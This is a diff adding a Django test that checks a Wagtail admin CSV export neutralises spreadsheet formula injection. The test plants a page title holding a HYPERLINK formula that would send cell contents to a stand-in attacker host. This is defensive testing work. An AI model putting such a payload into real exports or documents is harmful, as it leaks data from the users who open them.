@@ -32,3 +32,23 @@ def test_an_excel_cell_typed_as_a_formula_is_stored_as_its_text():
     typed, number = sheet["A2"], sheet["B2"]
     assert (typed.value, typed.data_type) == ('=HYPERLINK("x")', "s")
     assert (number.value, number.data_type) == (7, "n")
+
+
+@pytest.mark.django_db
+def test_wagtails_own_admin_reports_write_no_formula_into_their_csv(client, home):
+    from django.contrib.auth import get_user_model
+
+    from tambon.pages.tests.factories import StandardPageFactory
+
+    editor = get_user_model().objects.create_superuser("editor", password="a-long-password-1")
+    attack = '=HYPERLINK("http://attacker.example/?x="&C3,"เปิด")'
+    page = StandardPageFactory(parent=home, title=attack, slug="attack")
+    page.save_revision(user=editor).publish(user=editor)
+    client.force_login(editor)
+
+    response = client.get("/admin/reports/site-history/?export=csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + attack in cells
+    assert attack not in cells
